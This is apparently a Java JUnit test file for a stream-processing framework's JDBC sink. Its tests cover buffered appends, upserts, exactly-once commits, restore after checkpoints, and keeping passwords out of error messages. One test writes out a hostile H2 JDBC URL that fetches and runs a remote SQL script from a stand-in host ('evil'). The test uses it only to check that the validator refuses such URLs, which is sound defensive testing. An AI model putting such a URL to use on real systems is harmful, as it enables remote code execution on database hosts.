package io.sluice.connectors.jdbc;

import static io.sluice.connectors.TestTables.REGISTRY;
import static io.sluice.connectors.TestTables.column;
import static io.sluice.connectors.TestTables.subtask;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sluice.common.Row;
import io.sluice.common.RowKind;
import io.sluice.common.SluiceException;
import io.sluice.common.config.CheckpointingOptions;
import io.sluice.common.config.Configuration;
import io.sluice.common.types.Column;
import io.sluice.common.types.DataType;
import io.sluice.common.types.RowType;
import io.sluice.common.types.TypeRoot;
import io.sluice.connectors.CollectingOutput;
import io.sluice.connectors.ManualProcessingTime;
import io.sluice.connectors.TableContext;
import io.sluice.connectors.TableSink;
import io.sluice.connectors.TestTables;
import io.sluice.executor.api.CheckpointListener;
import io.sluice.executor.api.Operator;
import io.sluice.executor.api.OperatorContext;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.IdentityHashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The JDBC sink's writers against a real H2 database. */
class JdbcSinkTest {
  private static final List<Column> COLUMNS = List.of(
      column("id", DataType.of(TypeRoot.BIGINT)), column("name", DataType.string()));
  private static final CollectingOutput OUT = new CollectingOutput();

  private final String url = "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1";
  private final ManualProcessingTime time = new ManualProcessingTime(0);
  /** The context each writer was opened with, whose operator state a checkpoint takes. */
  private final Map<Operator, OperatorContext> contexts = new IdentityHashMap<>();
  private Connection reader;

  @BeforeEach
  void createTable() throws SQLException {
    reader = DriverManager.getConnection(url, "sa", "pw");
    try (Statement statement = reader.createStatement()) {
      statement.execute("CREATE TABLE out_t (id BIGINT PRIMARY KEY, name VARCHAR(100))");
      statement.execute("CREATE TABLE log_t (id BIGINT, name VARCHAR(100))");
    }
  }

  @AfterEach
  void dropDatabase() throws SQLException {
    try (Statement statement = reader.createStatement()) {
      statement.execute("SHUTDOWN");
    }
  }

  @Test
  void appendModeWritesWhenTheBufferIsFullAtTheIntervalAndAtTheEnd() throws Exception {
    TableSink sink = sink("log_t", List.of(), "sink.buffer-flush.max-rows", "2",
        "sink.buffer-flush.interval", "1 s");
    assertThat(sink.acceptsUpdates()).isFalse();
    Operator writer = open(sink);

    writer.processRow(Row.of(1L, "a"), OUT);
    assertThat(rows("log_t")).isEmpty();
    writer.processRow(Row.of(1L, "a"), OUT);
    assertThat(rows("log_t")).containsExactly("1:a", "1:a");
    writer.processRow(Row.of(2L, null), OUT);
    time.now = 1_000;
    writer.onProcessingTime(1_000, OUT);
    assertThat(rows("log_t")).containsExactly("1:a", "1:a", "2:null");
    assertThat(time.timers).containsExactly(1_000L, 2_000L);
    writer.processRow(Row.of(3L, "c"), OUT);
    writer.endInput(OUT);
    writer.close();

    assertThat(rows("log_t")).containsExactly("1:a", "1:a", "2:null", "3:c");
  }

  @Test
  void upsertModeKeepsTheLastChangeOfEachKey() throws Exception {
    TableSink sink = sink("out_t", List.of("id"), "sink.buffer-flush.max-rows", "0",
        "sink.buffer-flush.interval", "0 ms");
    assertThat(sink.acceptsUpdates()).isTrue();
    Operator writer = open(sink);
    writer.processRow(Row.of(1L, "a"), OUT);
    writer.processRow(Row.of(2L, "b"), OUT);
    checkpoint(writer, 1); // at-least-once: written at the barrier
    assertThat(rows("out_t")).containsExactly("1:a", "2:b");

    writer.processRow(Row.ofKind(RowKind.UPDATE_BEFORE, 1L, "a"), OUT);
    writer.processRow(Row.ofKind(RowKind.UPDATE_AFTER, 1L, "a2"), OUT);
    writer.processRow(Row.ofKind(RowKind.DELETE, 2L, "b"), OUT);
    writer.processRow(Row.of(3L, "c"), OUT);
    writer.processRow(Row.ofKind(RowKind.DELETE, 3L, "c"), OUT);
    writer.processRow(Row.of(4L, "d"), OUT);
    writer.endInput(OUT);
    writer.close();

    assertThat(rows("out_t")).containsExactly("1:a2", "4:d");
  }

  @Test
  void exactlyOnceRowsBecomeVisibleWhenTheirCheckpointCompletes() throws Exception {
    TableSink sink = sink("log_t", List.of(), "sink.delivery-guarantee", "exactly-once",
        "sink.buffer-flush.max-rows", "1");
    Operator writer = open(sink);
    writer.processRow(Row.of(1L, "a"), OUT);
    writer.processRow(Row.of(2L, "b"), OUT);
    checkpoint(writer, 1);
    writer.processRow(Row.of(3L, "c"), OUT);
    checkpoint(writer, 2);
    writer.processRow(Row.of(4L, "d"), OUT);
    assertThat(rows("log_t")).as("before any checkpoint completed").isEmpty();

    ((CheckpointListener) writer).notifyCheckpointComplete(1);
    assertThat(rows("log_t")).containsExactly("1:a", "2:b");
    ((CheckpointListener) writer).notifyCheckpointComplete(2);
    assertThat(rows("log_t")).containsExactly("1:a", "2:b", "3:c");
  }

  @Test
  void withCheckpointingTheFinalCheckpointCommitsTheLastRows() throws Exception {
    Operator writer = sink("log_t", List.of(), "sink.delivery-guarantee", "exactly-once").writerFactory().create();
    Configuration checkpointing = new Configuration();
    checkpointing.set(CheckpointingOptions.INTERVAL, "100 ms");
    OperatorContext context = new OperatorContext("sink", 0, 1, 128, checkpointing).withProcessingTime(time);
    writer.open(context);
    contexts.put(writer, context);
    writer.processRow(Row.of(1L, "a"), OUT);
    writer.endInput(OUT);
    assertThat(rows("log_t")).as("the end of the input commits nothing by itself").isEmpty();

    checkpoint(writer, 3);
    ((CheckpointListener) writer).notifyCheckpointComplete(3);
    writer.close();

    assertThat(rows("log_t")).containsExactly("1:a");
  }

  @Test
  void aRestoredWriterCommitsEachPendingBatchExactlyOnce() throws Exception {
    TableSink sink = sink("log_t", List.of(), "sink.delivery-guarantee", "exactly-once");
    Operator failed = open(sink);
    failed.processRow(Row.of(1L, "a"), OUT);
    byte[] first = checkpoint(failed, 1);
    failed.processRow(Row.of(2L, "b"), OUT);
    byte[] second = checkpoint(failed, 2);
    // Checkpoint 1's notification arrived, checkpoint 2 completed but the writer failed before hearing of it.
    ((CheckpointListener) failed).notifyCheckpointComplete(1);
    failed.processRow(Row.of(3L, "lost with the failure"), OUT);
    failed.close();
    assertThat(rows("log_t")).containsExactly("1:a");

    Operator restored = restore(sink, second);
    assertThat(rows("log_t")).containsExactly("1:a", "2:b");
    restored.close();
    restore(sink, second).close();
    restore(sink, first).close();
    assertThat(rows("log_t")).as("restoring again writes nothing twice").containsExactly("1:a", "2:b");
  }

  @Test
  void urlsThatRunCodeAreRefused() {
    assertThatThrownBy(() -> REGISTRY.validate(table("log_t", List.of(),
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
        .isInstanceOf(SluiceException.class).hasMessageContaining("refused");
  }

  @Test
  void withoutAnUpsertStatementAnUpdateDeletesAndInserts() throws Exception {
    JdbcRowWriter writer = new JdbcRowWriter(JdbcDialect.OTHER.insert("out_t", List.of("id", "name")),
        JdbcDialect.OTHER.delete("out_t", List.of("id")), true, new RowType(COLUMNS), List.of(0));
    try (Connection connection = DriverManager.getConnection(url, "sa", "pw")) {
      writer.write(connection, List.of(Row.of(1L, "a"), Row.of(2L, "b")));
      writer.write(connection, List.of(Row.ofKind(RowKind.UPDATE_AFTER, 1L, "a2"),
          Row.ofKind(RowKind.DELETE, 2L, "b")));
    }
    assertThat(rows("out_t")).containsExactly("1:a2");
  }

  @Test
  void aWriteThatKeepsFailingNamesTheTableButNotThePassword() throws Exception {
    Operator writer = open(sink("missing_t", List.of(), "sink.max-retries", "1"));
    writer.processRow(Row.of(1L, "a"), OUT);

    assertThatThrownBy(() -> writer.endInput(OUT)).isInstanceOf(SluiceException.class)
        .hasMessageContaining("'missing_t'").hasMessageContaining("2 attempt(s)").hasMessageNotContaining("pw");
    writer.close();
  }

  private TableSink sink(String table, List<String> primaryKey, String... extraOptions) {
    TableContext context = table(table, primaryKey, url);
    Map<String, String> options = new LinkedHashMap<>(context.options());
    for (int i = 0; i < extraOptions.length; i += 2) {
      options.put(extraOptions[i], extraOptions[i + 1]);
    }
    return REGISTRY.createSink(new TableContext("t", context.physicalSchema(), primaryKey, options));
  }

  private static TableContext table(String table, List<String> primaryKey, String url) {
    Map<String, String> options = new LinkedHashMap<>();
    options.put("connector", "jdbc");
    options.put("url", url);
    options.put("table-name", table);
    options.put("username", "sa");
    options.put("password", "pw");
    return new TableContext("t", new RowType(COLUMNS), primaryKey, options);
  }

  private Operator open(TableSink sink) throws Exception {
    Operator writer = sink.writerFactory().create();
    OperatorContext context = subtask(0, 1).withProcessingTime(time);
    writer.open(context);
    contexts.put(writer, context);
    return writer;
  }

  /** The writer's piece of checkpoint {@code checkpointId}, taken as the runtime takes it. */
  private byte[] checkpoint(Operator writer, long checkpointId) throws Exception {
    return TestTables.snapshot(writer, contexts.get(writer), checkpointId);
  }

  private Operator restore(TableSink sink, byte[] state) throws Exception {
    Operator writer = sink.writerFactory().create();
    writer.open(TestTables.restored(writer, List.of(state), 0, 1).withProcessingTime(time));
    return writer;
  }

  private List<String> rows(String table) throws SQLException {
    List<String> rows = new ArrayList<>();
    try (Statement statement = reader.createStatement();
        ResultSet result = statement.executeQuery("SELECT id, name FROM " + table + " ORDER BY id, name")) {
      while (result.next()) {
        rows.add(result.getLong(1) + ":" + result.getString(2));
      }
    }
    return rows;
  }
}
